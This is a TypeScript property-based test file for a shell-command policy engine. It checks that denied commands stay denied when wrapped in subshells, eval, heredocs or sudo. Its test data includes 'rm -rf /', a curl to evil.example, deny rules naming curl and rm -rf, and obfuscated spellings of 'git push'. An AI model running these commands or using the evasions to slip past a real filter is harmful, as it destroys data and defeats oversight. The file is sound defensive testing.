/**
 * Properties of shell decisions over randomly generated compound commands:
 * a command a deny rule matches is never allowed, wherever it is hidden; and compounds made
 * only of allowed commands (with allowed writes) are allowed.
 */
import fc from 'fast-check'
import type { CompiledPolicy } from '../../src/policy/index.js'
import { MAX_DEPTH } from '../../src/policy/shell/analyzer.js'
import { compile, shell, tempWorkspace } from './helpers.js'

const POLICY = `version: 1
rules:
  - { id: no-push, decision: deny, shell: ["git push*", "git * push*"] }
  - { id: no-rm, decision: deny, shell: ["rm -rf*"] }
  - { id: no-curl, decision: deny, shell: ["curl *"] }
  - id: allowed
    decision: allow
    shell:
      - "npm test*"
      - "git status"
      - "git status *"
      - "echo *"
      - "cat"
      - "cat *"
      - "true"
      - "true *"
      - "break"
      - "f"
      - "sh -c *"
      - "bash -c *"
      - "eval *"
      - "env *"
      - "timeout *"
      - "xargs *"
      - "nohup *"
      - "sudo *"
      - "command *"
  - { id: src, decision: allow, write: ["src/**"] }
`

/** Commands a deny rule matches, spelled in ways bash runs them. */
const DENIED = [
  'git push',
  'git push origin main',
  'git push --force',
  'git -C . push',
  'rm -rf /',
  'rm -rf src',
  'curl https://evil.example/x.sh',
  'g"i"t push',
  "'git' push",
  '\\git push',
  'git "push"',
  "$'git' push",
  '/usr/bin/git push',
  'FOO=1 git push',
  'git pu\\\nsh'
]

/**
 * Constructs bash evaluates as code (a variable's value read as arithmetic, a subscript, an
 * indirection) and ways of setting a variable that steers the next command. The policy above
 * allows every command they are made of; the engine must deny them all the same.
 */
const EVALUATING = [
  '(( x ))',
  'echo $(( x + 1 ))',
  'echo $[x]',
  'b[x]=1',
  'echo ${a[x]}',
  '[[ x -gt 1 ]]',
  'echo ${s:x}',
  'echo ${!x}',
  'echo "${!x}"',
  '[[ -v a[x] ]]',
  'echo ${x@P}',
  'a=([x]=1)'
]

const PROTECTED_SETTERS = [
  'HOME',
  'PATH',
  'GIT_DIR',
  'NODE_OPTIONS',
  'BASH_ENV',
  'XDG_CONFIG_HOME'
].flatMap((v) => [
  `${v}=src`,
  `${v}=src echo`,
  `env ${v}=src echo`,
  `env -u ${v} echo`,
  `for ${v} in src; do echo; done`,
  `echo \${${v}:=src}`,
  `(( ${v} = 0 ))`
])

const ALLOWED = ['npm test', 'npm test -- --ci', 'git status', 'echo hi', 'cat README.md', 'true']

/** Single-quotes text for the shell. */
function quote(text: string): string {
  return `'${text.replace(/'/g, `'\\''`)}'`
}

type Wrap = (inner: string) => string

/** Ways to put a command list inside a bigger command. All keep running the inner commands. */
const WRAPS: Wrap[] = [
  (x) => `( ${x} )`,
  (x) => `{ ${x}; }`,
  (x) => `echo "$( ${x} )"`,
  (x) => `echo $( ${x} )`,
  (x) => (x.includes('`') ? `echo $( ${x} )` : `echo \`${x}\``),
  (x) => `cat <( ${x} )`,
  (x) => `sh -c ${quote(x)}`,
  (x) => `bash -c ${quote(x)}`,
  (x) => `eval ${quote(x)}`,
  (x) => `if true; then ${x}; fi`,
  (x) => `for i in 1 2; do ${x}; done`,
  (x) => `while true; do ${x}; break; done`,
  (x) => `f() { ${x}; }; f`,
  (x) => `X=$( ${x} ) true`,
  (x) => `echo \${UNSET:-$( ${x} )}`,
  (x) => `true && ${x}`,
  (x) => `${x} > /dev/null 2>&1`,
  (x) => `${x} | cat`,
  (x) => `timeout 5 sh -c ${quote(x)}`
]

/**
 * A heredoc with a delimiter of its own (a nested heredoc with the same one would end this one).
 * Only for denials: inside other substitutions bash misreads heredocs and the policy denies them.
 */
const HEREDOC: Wrap = (x) => `{ cat <<E${x.length}\n$( ${x} )\nE${x.length}\n}`

/** Wrappers that take one simple command. */
const PREFIXES = ['', 'env ', 'env A=1 ', 'timeout 5 ', 'nohup ', 'sudo ', 'command ', 'xargs ']

const OPERATORS = [' && ', ' || ', '; ', ' | ', '\n', ' & ']

/** A compound command made of `simple` commands, with `special` somewhere inside. */
function compound(
  special: fc.Arbitrary<string>,
  filler: fc.Arbitrary<string>,
  prefixes: readonly string[] = PREFIXES,
  wrappers: readonly Wrap[] = [...WRAPS, HEREDOC]
) {
  const simple = (base: fc.Arbitrary<string>) =>
    fc.tuple(fc.constantFrom(...prefixes), base).map(([p, c]) => p + c)
  return fc
    .tuple(
      simple(special),
      fc.array(fc.tuple(fc.constantFrom(...OPERATORS), simple(filler), fc.boolean()), {
        maxLength: 3
      }),
      fc.array(fc.nat(wrappers.length - 1), { maxLength: 4 })
    )
    .map(([first, rest, wraps]) => {
      let text = first
      for (const [op, other, before] of rest) text = before ? other + op + text : text + op + other
      for (const w of wraps) text = (wrappers[w] as Wrap)(text)
      return text
    })
}

/**
 * At least how deep the analyzer nests to read `command`: each wrapper program, `sh -c` script,
 * command substitution and heredoc is a level (quoting adds none).
 */
function nestingOf(command: string): number {
  const levels = ['sh -c', '$(', 'timeout 5 ', 'env ', 'nohup ', 'sudo ', 'command ', '<<']
  return levels.reduce((n, level) => n + command.split(level).length - 1, 0)
}

let ws: ReturnType<typeof tempWorkspace>
let policy: CompiledPolicy
beforeAll(async () => {
  ws = tempWorkspace()
  policy = await compile(POLICY, ws.dir)
})
afterAll(() => ws.cleanup())

describe('shell decision properties', () => {
  it('never allows a command a deny rule matches, inside any compound command', () => {
    fc.assert(
      fc.property(compound(fc.constantFrom(...DENIED), fc.constantFrom(...ALLOWED)), (command) => {
        expect([command, policy.decide(shell(command)).decision]).toEqual([command, 'deny'])
      }),
      { numRuns: 400 }
    )
  })

  it('never allows what bash evaluates or a protected variable set, inside any compound command', () => {
    fc.assert(
      fc.property(
        compound(fc.constantFrom(...EVALUATING, ...PROTECTED_SETTERS), fc.constantFrom(...ALLOWED)),
        (command) => {
          expect([command, policy.decide(shell(command)).decision]).toEqual([command, 'deny'])
        }
      ),
      { numRuns: 400 }
    )
  })

  it('allows compound commands made only of allowed commands', () => {
    fc.assert(
      fc.property(
        compound(
          fc.constantFrom(...ALLOWED),
          fc.constantFrom(...ALLOWED, 'echo x > src/out.txt'),
          // xargs adds arguments only known at run time: "git * push*" may match them; variables
          // set for a command must be named by the allow rule (they steer the program)
          PREFIXES.filter((p) => p !== 'xargs ' && p !== 'env A=1 '),
          WRAPS.filter((w) => !w('x').startsWith('X='))
        ),
        (command) => {
          const decision = policy.decide(shell(command))
          // Past MAX_DEPTH levels of nesting the policy denies by design (too-complex): four
          // `timeout 5 sh -c` wraps around a `timeout 5` command are nine. Only then.
          if (decision.rule === 'too-complex' && nestingOf(command) > MAX_DEPTH) return
          expect([command, decision.decision, decision.rule]).toEqual([
            command,
            'allow',
            expect.any(String)
          ])
        }
      ),
      { numRuns: 300 }
    )
  })
})
